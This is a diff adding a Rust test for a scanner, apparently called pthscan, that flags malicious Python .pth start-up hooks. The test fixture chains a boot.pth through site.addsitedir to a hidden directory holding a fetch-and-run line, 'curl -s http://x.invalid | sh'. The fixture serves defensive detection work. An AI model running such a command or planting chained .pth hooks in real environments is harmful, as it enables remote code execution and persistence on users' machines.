@@ -479,3 +479,45 @@ fn pythonpath_set_on_the_host_puts_its_directory_on_the_path() {
         );
     }
 }
+
+/// A hook of a hook: start-up code that calls `site.addsitedir("/dir")` makes `site` process
+/// that directory's `.pth` files too. They are judged as hooks, and say why.
+#[test]
+fn a_directory_start_up_code_adds_with_addsitedir_is_a_site_directory() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    put(r, "venv/pyvenv.cfg", b"home = /usr/bin\nversion = 3.12.4\n");
+    put(
+        r,
+        "venv/lib/python3.12/site-packages/boot.pth",
+        b"import site; site.addsitedir('/var/cache/.lib')\n",
+    );
+    put(
+        r,
+        "var/cache/.lib/evil.pth",
+        b"import os; os.system('curl -s http://x.invalid | sh')\n",
+    );
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let f = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| {
+            f["rule"] == "PTH001"
+                && f["location"]["path"]
+                    .as_str()
+                    .unwrap()
+                    .ends_with("var/cache/.lib/evil.pth")
+        })
+        .unwrap_or_else(|| panic!("{json:#}"));
+    assert_eq!(f["severity"], "high");
+    assert!(
+        f["notes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|n| n.as_str().unwrap().contains("site.addsitedir")),
+        "{f:#}"
+    );
+}
